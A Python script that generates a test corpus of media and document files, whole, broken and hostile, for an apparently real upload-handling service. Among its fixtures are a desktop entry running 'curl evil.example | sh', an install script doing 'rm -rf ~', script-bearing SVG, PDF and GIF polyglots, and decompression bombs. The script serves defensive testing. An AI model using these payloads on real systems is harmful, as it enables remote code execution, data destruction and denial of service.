#!/usr/bin/env python3
"""Makes the corpus of media: every format that a customer may send, whole and broken, harmless and hostile.

Nothing is downloaded. Sound, pictures and video come from ffmpeg's test sources and from the tools of Debian's webp,
libheif-examples and imagemagick; what those refuse to make, because it is broken or hostile, is put together byte by byte.
CORPUS.md says of each file what it is and what Bellhop makes of it; the test beside this script holds both against
each other. The files are the same at every run, as far as the tools keep their promise of bit-exact output.

Usage: make.py FOLDER     (does nothing when FOLDER holds what this very script made)
"""

import gzip
import hashlib
import io
import os
import random
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

EXACT = "-map_metadata -1 -fflags +bitexact -flags:v +bitexact -flags:a +bitexact".split()
# A voice rises and falls: a tone that is louder in the middle has a waveform worth drawing.
TONE = "sine=frequency=330:sample_rate=48000:duration={},volume='0.2+0.8*sin(PI*t/{})':eval=frame"
PICTURE = "testsrc2=size={}:rate={}:duration={}"


def run(*command):
    done = subprocess.run([str(part) for part in command], stdin=subprocess.DEVNULL, capture_output=True)
    if done.returncode != 0:
        raise SystemExit(f"{' '.join(map(str, command))}\n{done.stderr.decode(errors='replace')}")
    return done.stdout


class Corpus:
    def __init__(self, folder):
        self.folder = folder

    def path(self, name):
        return self.folder / name

    def write(self, name, content):
        self.path(name).write_bytes(content)

    def read(self, name):
        return self.path(name).read_bytes()

    def ffmpeg(self, name, *arguments):
        run("ffmpeg", "-hide_banner", "-loglevel", "error", "-y", *arguments, *EXACT, self.path(name))

    def sound(self, name, *arguments, seconds=3):
        self.ffmpeg(name, "-f", "lavfi", "-i", TONE.format(seconds, seconds), *arguments)

    def video(self, name, *arguments, seconds=2, size="160x120", sound=True):
        inputs = ["-f", "lavfi", "-i", PICTURE.format(size, 25, seconds)]
        if sound:
            inputs += ["-f", "lavfi", "-i", TONE.format(seconds, seconds)]
        self.ffmpeg(name, *inputs, "-threads", "1", "-pix_fmt", "yuv420p", *arguments)

    def picture(self, name, *arguments, size="320x240"):
        self.ffmpeg(name, "-f", "lavfi", "-i", PICTURE.format(size, 1, 1), "-frames:v", "1", *arguments)

    def cut(self, name, whole, share):
        """A file that breaks off."""
        content = self.read(whole)
        self.write(name, content[: int(len(content) * share)])


# Sound


def sounds(c):
    opus = ["-c:a", "libopus", "-b:a", "24k"]
    yield lambda: c.sound("note.ogg", *opus, "-ac", "1", "-application", "voip")
    yield lambda: c.sound("stereo.opus.ogg", *opus, "-ac", "2")
    yield lambda: c.sound("song.vorbis.ogg", "-c:a", "libvorbis", "-ac", "2")
    yield lambda: c.sound("song.flac.ogg", "-c:a", "flac", "-f", "ogg")
    yield lambda: c.sound("bare.mp3", "-c:a", "libmp3lame", "-b:a", "64k", "-write_xing", "0", "-id3v2_version", "0")
    yield lambda: c.sound("song.m4a", "-c:a", "aac", "-movflags", "+faststart")
    yield lambda: c.sound("late.m4a", "-c:a", "aac")
    yield lambda: c.sound("sound-only.mp4", "-c:a", "aac", "-brand", "mp42")
    yield lambda: c.sound("lossless.m4a", "-c:a", "alac")
    yield lambda: c.sound("plain.aac", "-c:a", "aac", "-f", "adts")
    yield lambda: c.sound("song.wav", "-c:a", "pcm_s16le")
    yield lambda: c.sound("song.flac", "-c:a", "flac")
    yield lambda: c.sound("song.webm", *opus)
    # What browsers record: written to a pipe, so its head does not say how long it is.
    yield lambda: c.write("recorded.webm", run(*piped("sound", *opus, "-f", "webm")))
    yield lambda: c.ffmpeg("silence.wav", "-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono:d=2", "-c:a", "pcm_s16le")
    # Long enough to measure with.
    yield lambda: c.sound("minute.ogg", *opus, "-ac", "2", seconds=60)
    yield lambda: c.sound("minute.mp3", "-c:a", "libmp3lame", "-b:a", "128k", "-ac", "2", seconds=60)
    yield lambda: c.sound("minute.m4a", "-c:a", "aac", "-ac", "2", seconds=60)
    yield lambda: c.sound("minute.flac", "-c:a", "flac", "-ac", "2", seconds=60)
    yield lambda: c.sound("song.aiff")
    # A hundred frames of 20 ms, all of them silence: one byte of head, thirteen of bits.
    yield lambda: c.write("note.amr", b"#!AMR\n" + (b"\x0c" + bytes(13)) * 100)
    yield lambda: c.write("tune.mid", midi())
    yield lambda: long_ones(c)


def piped(kind, *arguments):
    sources = ["-f", "lavfi", "-i", TONE.format(3, 3)]
    if kind == "video":
        sources = ["-f", "lavfi", "-i", PICTURE.format("160x120", 25, 2), *sources, "-shortest", "-threads", "1"]
    return ["ffmpeg", "-hide_banner", "-loglevel", "error", *sources, *arguments, *EXACT, "pipe:1"]


def midi():
    track = bytes.fromhex("00c00000903c406080803c4000ff2f00")
    return b"MThd" + struct.pack(">IHHH", 6, 0, 1, 96) + b"MTrk" + struct.pack(">I", len(track)) + track


def long_ones(c):
    """Three hours: a minute that comes again 180 times."""
    c.sound("for-hours.mp3", "-ar", "8000", "-ac", "1", "-c:a", "libmp3lame", "-b:a", "16k", "-write_xing", "0",
            "-id3v2_version", "0", seconds=60)
    c.write("three-hours.mp3", c.read("for-hours.mp3") * 180)
    c.sound("for-hours.ogg", "-ac", "1", "-c:a", "libopus", "-b:a", "16k", seconds=60)
    c.ffmpeg("three-hours.ogg", "-stream_loop", "179", "-i", c.path("for-hours.ogg"), "-c", "copy")
    c.path("for-hours.mp3").unlink()
    c.path("for-hours.ogg").unlink()


# Pictures


def pictures(c):
    yield lambda: c.picture("photo.png", size="1280x960")
    yield lambda: c.picture("small.png", size="64x48")
    yield lambda: c.picture("clear.png", "-vf", "format=rgba,colorkey=black:0.3:0.2", "-pix_fmt", "rgba", size="800x600")
    yield lambda: c.picture("deep.png", "-pix_fmt", "rgb48be")
    yield lambda: c.write("grey.png", png(300, 200, 0, bytes(range(200)) + bytes(100)))
    yield lambda: c.picture("photo.jpg", "-q:v", "3", size="2048x1536")
    yield lambda: c.picture("huge.jpg", "-q:v", "8", "-pix_fmt", "yuvj420p", size="12000x9000")
    yield lambda: run("convert", "-seed", "7", "-size", "900x600", "plasma:red-blue", "-strip", "-interlace", "JPEG",
                      c.path("progressive.jpg"))
    yield lambda: run("convert", "-size", "200x100", "xc:rgb(200,40,40)", "-colorspace", "CMYK", "-strip",
                      c.path("inks.jpg"))
    yield lambda: large(c)
    yield lambda: turned(c)
    yield lambda: webps(c)
    yield lambda: c.picture("still.gif")
    yield lambda: c.ffmpeg("moving.gif", "-f", "lavfi", "-i", PICTURE.format("200x150", 10, 1))
    yield lambda: c.ffmpeg("moving.apng", "-f", "lavfi", "-i", PICTURE.format("200x150", 10, 1), "-plays", "0")
    yield lambda: c.picture("photo.bmp")
    yield lambda: c.picture("scan.tiff")
    yield lambda: heifs(c)
    yield lambda: c.write("script.svg", SVG)


def large(c):
    """As much as is decoded: 12 and 15 MP, in the three ways that hold most in memory."""
    c.picture("large.png", "-vf", "format=rgba,colorchannelmixer=aa=0.5", "-pix_fmt", "rgba", size="3800x3800")
    c.picture("for-large.png", size="4000x3000")
    run("convert", c.path("for-large.png"), "-strip", "-interlace", "JPEG", "-quality", "80", c.path("large.jpg"))
    run("cwebp", "-quiet", "-m", "0", "-q", "60", c.path("for-large.png"), "-o", c.path("large.webp"))
    c.path("for-large.png").unlink()


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch("http://evil.example/")</script><circle cx="50" cy="50" r="40"/>
</svg>
"""


def turned(c):
    """The same picture of 120 by 80 pixels, stored in all eight ways that a camera can be held, with a place in it."""
    c.picture("upright.jpg", "-q:v", "2", size="120x80")
    backwards = {1: [], 2: ["hflip"], 3: ["hflip", "vflip"], 4: ["vflip"], 5: ["transpose=0"], 6: ["transpose=2"],
                 7: ["transpose=3"], 8: ["transpose=1"]}
    for orientation, filters in backwards.items():
        name = f"turned-{orientation}.jpg"
        c.ffmpeg(name, "-i", c.path("upright.jpg"), "-vf", ",".join(filters) or "null", "-q:v", "2")
        content = c.read(name)
        c.write(name, content[:2] + exif(orientation) + content[2:])
    c.path("upright.jpg").unlink()


def exif(orientation):
    """An APP1 segment that says how the camera was held, and where: 52° 13' north."""
    def entry(tag, kind, count, value):
        return struct.pack("<HHI", tag, kind, count) + value

    first = 8 + 2 + 2 * 12 + 4
    second = first + 2 + 2 * 12 + 4
    tiff = b"II*\0" + struct.pack("<I", 8)
    tiff += struct.pack("<H", 2) + entry(0x0112, 3, 1, struct.pack("<HH", orientation, 0))
    tiff += entry(0x8825, 4, 1, struct.pack("<I", first)) + struct.pack("<I", 0)
    tiff += struct.pack("<H", 2) + entry(1, 2, 2, b"N\0\0\0") + entry(2, 5, 3, struct.pack("<I", second))
    tiff += struct.pack("<I", 0) + struct.pack("<6I", 52, 1, 13, 1, 0, 1)
    content = b"Exif\0\0" + tiff
    return b"\xff\xe1" + struct.pack(">H", len(content) + 2) + content


def webps(c):
    c.picture("for-webp.png", "-vf", "format=rgba,colorkey=black:0.3:0.2", "-pix_fmt", "rgba", size="512x512")
    run("cwebp", "-quiet", "-q", "70", "-noalpha", c.path("for-webp.png"), "-o", c.path("photo.webp"))
    run("cwebp", "-quiet", "-lossless", "-z", "2", c.path("for-webp.png"), "-o", c.path("sticker.webp"))
    frames = []
    for frame in range(5):
        c.ffmpeg(f"frame-{frame}.png", "-i", c.path("for-webp.png"), "-vf", f"rotate={frame}*PI/8:c=none,scale=256:256")
        frames += ["-d", "100", c.path(f"frame-{frame}.png")]
    run("img2webp", "-loop", "0", *frames, "-o", c.path("moving.webp"))
    for made in ["for-webp.png", *(f"frame-{frame}.png" for frame in range(5))]:
        c.path(made).unlink()


def heifs(c):
    c.picture("for-heif.png", size="320x200")
    run("heif-enc", "-q", "50", c.path("for-heif.png"), "-o", c.path("photo.heic"))
    run("heif-enc", "-A", "-q", "50", "-p", "speed=8", "-p", "threads=1", c.path("for-heif.png"), "-o", c.path("photo.avif"))
    c.path("for-heif.png").unlink()


def chunk(name, content):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width, height, colour, row, extra=b""):
    """A PNG of rows that are all the same."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", zlib.compress((b"\0" + row) * height, 9)) + chunk(b"IEND", b"")


# Stickers and video


def lottie(extra="", frames=60, rate=30, layers=None):
    shape = ('{"ddd":0,"ind":1,"ty":4,"nm":"ball","ks":{"o":{"a":0,"k":100},"r":{"a":1,"k":[{"t":0,"s":[0]},{"t":%d,"s":[360]}]},'
             '"p":{"a":0,"k":[256,256,0]},"a":{"a":0,"k":[0,0,0]},"s":{"a":0,"k":[100,100,100]}},"shapes":[{"ty":"gr","it":['
             '{"ty":"rc","p":{"a":0,"k":[0,0]},"s":{"a":0,"k":[200,120]},"r":{"a":0,"k":30}},{"ty":"fl","c":{"a":0,"k":[0.9,0.4,0.1,1]},'
             '"o":{"a":0,"k":100}},{"ty":"tr","p":{"a":0,"k":[0,0]},"a":{"a":0,"k":[0,0]},"s":{"a":0,"k":[100,100]},'
             '"r":{"a":0,"k":0},"o":{"a":0,"k":100}}]}],"ip":0,"op":%d,"st":0}' % (frames, frames))
    layers = layers if layers is not None else shape
    return ('{"v":"5.7.4","fr":%s,"ip":0,"op":%s,"w":512,"h":512,"nm":"sticker","ddd":0,%s"layers":[%s]}'
            % (rate, frames, extra, layers)).encode()


def packed(content):
    return gzip.compress(content, 9, mtime=0)


def stickers(c):
    sticker = lottie('"tgs":1,"assets":[],')
    yield lambda: c.write("sticker.tgs", packed(sticker))
    yield lambda: c.write("sticker.json", lottie('"assets":[],'))
    # The colour key leaves the test picture's black parts clear.
    yield lambda: c.ffmpeg("sticker.webm", "-f", "lavfi", "-i", PICTURE.format("256x256", 25, 2), "-vf",
                           "format=rgba,colorkey=black:0.3:0.2,format=yuva420p", "-c:v", "libvpx-vp9", "-b:v", "200k",
                           "-auto-alt-ref", "0", "-deadline", "realtime", "-cpu-used", "8", "-threads", "1")


def videos(c):
    h264 = ["-c:v", "libx264", "-preset", "ultrafast"]
    both = [*h264, "-c:a", "aac"]
    vp9 = ["-c:v", "libvpx-vp9", "-b:v", "200k", "-deadline", "realtime", "-cpu-used", "8"]
    yield lambda: c.video("clip.mp4", *both, "-movflags", "+faststart")
    yield lambda: c.video("late.mp4", *both)
    yield lambda: held_upright(c, both)
    yield lambda: c.video("pieces.mp4", *both, "-movflags", "+frag_keyframe+empty_moov+default_base_moof")
    yield lambda: c.video("clip.mov", *both, "-f", "mov")
    yield lambda: c.video("phone.3gp", "-c:v", "h263", "-an", "-f", "3gp", size="176x144", sound=False)
    yield lambda: c.video("clip.hevc.mp4", "-c:v", "libx265", "-preset", "ultrafast", "-x265-params",
                          "log-level=error:pools=1:frame-threads=1", "-tag:v", "hvc1", "-an", sound=False)
    yield lambda: c.video("clip.av1.mp4", "-c:v", "libaom-av1", "-cpu-used", "8", "-usage", "realtime", "-b:v", "150k",
                          "-an", sound=False)
    yield lambda: c.video("clip.vp9.webm", *vp9, "-c:a", "libopus")
    yield lambda: c.video("clip.vp8.webm", "-c:v", "libvpx", "-b:v", "200k", "-c:a", "libvorbis")
    yield lambda: c.write("recorded-video.webm", run(*piped("video", *vp9, "-c:a", "libopus", "-f", "webm")))
    yield lambda: c.video("clip.ogv", "-c:v", "libtheora", "-c:a", "libvorbis")
    yield lambda: c.video("clip.mkv", *both)
    yield lambda: c.video("clip.avi", "-c:v", "mpeg4", "-c:a", "libmp3lame")


def held_upright(c, codecs):
    """Stored lying, to be shown turned by a quarter: the matrix of its first track says so."""
    c.video("held-upright.mp4", *codecs)
    content = bytearray(c.read("held-upright.mp4"))
    matrix = content.index(b"tkhd") + 4 + 40
    content[matrix : matrix + 20] = struct.pack(">iiiii", 0, 0x10000, 0, -0x10000, 0)
    c.write("held-upright.mp4", bytes(content))


# Documents and programs


def pdf(extra=""):
    parts = [f"<</Type/Catalog/Pages 2 0 R{extra}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
             "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
             "<</Length 38>>\nstream\nBT /F 12 Tf 20 50 Td (Faktura) Tj ET \nendstream",
             "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]
    body, places = b"%PDF-1.4\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{part}\nendobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"xref\n0 6\n0000000000 65535 f \n{table}trailer\n<</Size 6/Root 1 0 R>>\nstartxref\n{len(body)}\n%%EOF\n"
    return body + end.encode()


def archive(files, compressed=zipfile.ZIP_DEFLATED):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", compressed) as made:
        for name, text in files.items():
            made.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), text, compressed)
    return content.getvalue()


def documents(c):
    rows = "Nazwa;Cena;Miasto\r\nKubek żółty;12,40;Łódź\r\nŚcierka;3,99;Gdańsk\r\n"
    letter = "Zażółć gęślą jaźń.\nDzień dobry,\nproszę o fakturę do zamówienia.\nPozdrawiam, Łukasz Śliwiński\n"
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    files = {
        "invoice.pdf": pdf(),
        "javascript.pdf": pdf("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "late.pdf": b"From a mail server\r\n" + b"x" * 900 + b"\r\n" + pdf(),
        "too-late.pdf": b"x" * 1200 + b"\n" + pdf(),
        "letter.txt": letter.encode(),
        "letter-old.txt": letter.encode("cp1250"),
        "letter-wide.txt": letter.encode("utf-16"),
        "long.log": "".join(f"2026-11-27 12:00:00 line {line}\n" for line in range(30_000)).encode(),
        "prices.csv": rows.encode("cp1250"),
        "prices.tsv": rows.replace(";", "\t").encode(),
        "wide.csv": ("\n".join(",".join(f"{row}.{column}" for column in range(80)) for row in range(700))).encode(),
        "data.json": b'{"order": 48211, "items": [{"name": "kubek"}]}\n',
        "invoice.xml": '<?xml version="1.0" encoding="UTF-8"?>\n<Faktura><Kwota>12,40</Kwota></Faktura>\n'.encode(),
        "page.html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n",
        "letter.docx": archive({"[Content_Types].xml": "<Types/>" * 9, "_rels/.rels": "<Relationships/>" * 9,
                                "word/document.xml": "<w:document/>" * 9, "word/styles.xml": "<w:styles/>" * 9}),
        "photos.zip": archive({"one.txt": "one", "two.txt": "two"}),
        "program": elf,
        "setup.exe": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x14C, 1) + bytes(200),
        "invoice.desktop": b"[Desktop Entry]\nType=Application\nName=Faktura\nExec=sh -c 'curl evil.example | sh'\n",
        "install.sh": b"#!/bin/sh\nrm -rf ~\n",
    }
    yield lambda: [c.write(name, content) for name, content in files.items()]


# What is broken, mislabelled or hostile. It is made of the whole files above.


def broken(c):
    for name, share in [("note.ogg", 0.6), ("bare.mp3", 0.5), ("song.m4a", 0.5), ("late.m4a", 0.5), ("song.wav", 0.5),
                        ("song.flac", 0.5), ("song.webm", 0.5), ("photo.png", 0.5), ("photo.jpg", 0.5), ("moving.gif", 0.5),
                        ("photo.webp", 0.5), ("photo.avif", 0.01), ("photo.heic", 0.5), ("photo.bmp", 0.5),
                        ("clip.mp4", 0.5), ("late.mp4", 0.5), ("clip.vp9.webm", 0.5), ("sticker.tgs", 0.5),
                        ("sticker.json", 0.9), ("invoice.pdf", 0.5)]:
        c.cut(f"cut-{name}", name, share)
    c.write("cut-head.jpg", c.read("photo.jpg")[:300])
    c.write("empty.jpg", b"")
    noise = random.Random(3)
    c.write("noise.mp3", c.read("bare.mp3")[:4] + noise.randbytes(60_000))
    c.write("noise.ogg", c.read("note.ogg")[:200] + noise.randbytes(60_000))
    c.write("noise.png", c.read("photo.png")[:60] + noise.randbytes(60_000))
    c.write("noise.mp4", c.read("late.mp4")[:40] + noise.randbytes(60_000))
    flipped = bytearray(c.read("photo.jpg"))
    for _ in range(200):
        flipped[noise.randrange(700, len(flipped))] ^= 1 << noise.randrange(8)
    c.write("flipped.jpg", bytes(flipped))


def mislabelled(c):
    shutil.copy(c.path("photo.png"), c.path("really-a-png.jpg"))
    shutil.copy(c.path("invoice.pdf"), c.path("really-a-pdf.png"))
    shutil.copy(c.path("setup.exe"), c.path("really-a-program.png"))
    shutil.copy(c.path("note.ogg"), c.path("really-a-note.mp4"))
    shutil.copy(c.path("clip.mp4"), c.path("no-extension"))
    page = b"/*<html><script>alert(document.domain)</script></html>*/"
    gif = c.read("still.gif")
    # A comment block may hold anything; a browser that guesses would see a page.
    comment = b"\x21\xfe" + bytes([len(page)]) + page + b"\0"
    colours = 13 + (3 << ((gif[10] & 7) + 1) if gif[10] & 0x80 else 0)
    c.write("page-inside.gif", gif[:colours] + comment + gif[colours:])


def bombs(c):
    c.write("64k.png", png(65_535, 65_535, 2, b"")[:33] + chunk(b"IDAT", zlib.compress(bytes(70_000), 9)) + chunk(b"IEND", b""))
    # Black, and true: two hundred kilobytes that unfold to 400 MB.
    c.write("true-bomb.png", png(20_000, 20_000, 0, bytes(20_000)))
    photo = bytearray(c.read("photo.jpg"))
    frame = photo.index(b"\xff\xc0")
    photo[frame + 5 : frame + 9] = struct.pack(">HH", 65_500, 65_500)
    c.write("65500.jpg", bytes(photo))
    space = lottie('"nm":"bomb",').replace(b'"nm":"bomb",', b'"nm":"bomb",' + b" " * 60_000_000, 1)
    c.write("bomb.tgs", packed(space))
    c.write("zeros.tgs", packed(bytes(60_000_000)))
    c.write("expressions.tgs", packed(lottie('"ks":{"o":{"a":0,"k":1,"x":"var $bm_rt = 1;"}},')))
    c.write("outside.tgs", packed(lottie('"assets":[{"id":"i","w":9,"h":9,"u":"https://evil.example/","p":"i.png","e":0}],')))
    c.write("endless.tgs", packed(lottie(frames=1_000_000_000)))
    c.write("many-layers.tgs", packed(lottie(layers=",".join(['{"ty":3}'] * 50_000))))
    c.write("deep.json", b'{"v":"5","fr":30,"ip":0,"op":60,"w":1,"h":1,"layers":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    c.write("bomb.zip", archive({"zeros": bytes(50_000_000)}))
    c.write("frames.gif", gif_of(400, 300, 9_000))
    c.write("canvas.gif", gif_of(30_000, 30_000, 2))
    c.write("canvas.webp", webp_of(c, 16_384, 16_384, 3))
    c.write("frames.webp", webp_of(c, 400, 300, 9_000))
    whole = c.read("small.png")
    control = chunk(b"acTL", struct.pack(">II", 50_000_000, 0))
    c.write("frames.apng", whole[:33] + control + whole[33:])
    big_video(c)
    wav = bytearray(c.read("song.wav"))
    wav[4:8] = wav[wav.index(b"data") + 4 : wav.index(b"data") + 8] = b"\xff\xff\xff\xff"
    c.write("absurd.wav", bytes(wav))
    c.write("endless.ogg", with_last_granule(c.read("note.ogg"), 2**62))
    moov = bytearray(c.read("clip.mp4"))
    at = moov.index(b"mvhd") + 4 + 12
    moov[at : at + 8] = struct.pack(">II", 1, 0xFFFFFFFE)
    c.write("endless.mp4", bytes(moov))


def gif_of(width, height, frames):
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    # One pixel, in the top left corner.
    frame = b"\x21\xf9\x04\0\x01\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    return head + frame * frames + b";"


def webp_of(c, width, height, frames):
    c.write("pixel.png", png(1, 1, 2, b"\xff\0\0"))
    run("cwebp", "-quiet", "-lossless", c.path("pixel.png"), "-o", c.path("pixel.webp"))
    # Without the file's own head it is a frame's content.
    image = c.read("pixel.webp")[12:]
    for made in ["pixel.png", "pixel.webp"]:
        c.path(made).unlink()
    three = lambda number: struct.pack("<I", number)[:3]
    body = three(0) + three(0) + three(0) + three(0) + three(100) + b"\0" + image
    frame = b"ANMF" + struct.pack("<I", len(body)) + body
    canvas = b"VP8X" + struct.pack("<I", 10) + b"\x12\0\0\0" + three(width - 1) + three(height - 1)
    content = b"WEBP" + canvas + b"ANIM" + struct.pack("<IIH", 6, 0, 0) + frame * frames
    return b"RIFF" + struct.pack("<I", len(content)) + content


def big_video(c):
    """200 MB that are nothing but a box which players leave out; the file takes no room on most disks."""
    free = 200 * 1024 * 1024
    with open(c.path("200-mb.mp4"), "wb") as made:
        made.write(c.read("clip.mp4"))
        made.write(struct.pack(">I", free) + b"free")
        made.truncate(made.tell() + free - 8)


def with_last_granule(ogg, granule):
    """Lets the last page claim an end; its checksum is made anew, or it would only be a damaged page."""
    page = ogg.rindex(b"OggS")
    head = bytearray(ogg[page:])
    head[6:14] = struct.pack("<Q", granule)
    head[22:26] = b"\0\0\0\0"
    checksum = 0
    for byte in head:
        checksum ^= byte << 24
        for _ in range(8):
            checksum = ((checksum << 1) ^ 0x04C11DB7 if checksum & 0x80000000 else checksum << 1) & 0xFFFFFFFF
    head[22:26] = struct.pack("<I", checksum)
    return ogg[:page] + bytes(head)


def tagged(c):
    """An MP3 with a large tag: its title, and a cover that looks like sound."""
    cover = b"\0image/png\0\x03\0" + b"\xff\xfb\x90\x00" * 50_000
    frames = b"APIC" + synchsafe(len(cover)) + b"\0\0" + cover + b"TIT2" + synchsafe(6) + b"\0\0" + b"\x03Tytul"
    c.write("tagged.mp3", b"ID3\x04\0\0" + synchsafe(len(frames)) + frames + c.read("bare.mp3"))


def synchsafe(number):
    return bytes([(number >> shift) & 0x7F for shift in (21, 14, 7, 0)])


def main():
    if len(sys.argv) != 2:
        raise SystemExit(__doc__)
    folder = Path(sys.argv[1])
    script = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()
    mark = folder / ".made-by"
    if mark.is_file() and mark.read_text() == script:
        return
    # Made beside its place and moved there, so that no half of a corpus is ever found.
    fresh = folder.with_name(f"{folder.name}.{os.getpid()}")
    shutil.rmtree(fresh, ignore_errors=True)
    fresh.mkdir(parents=True)
    corpus = Corpus(fresh)
    try:
        kinds = [videos, stickers, pictures, sounds, documents]
        with ThreadPoolExecutor(os.cpu_count()) as pool:
            for made in [pool.submit(make) for kind in kinds for make in kind(corpus)]:
                made.result()
        tagged(corpus)
        for make in [broken, mislabelled, bombs]:
            make(corpus)
        (fresh / ".made-by").write_text(script)
        shutil.rmtree(folder, ignore_errors=True)
        fresh.rename(folder)
    finally:
        shutil.rmtree(fresh, ignore_errors=True)


if __name__ == "__main__":
    main()
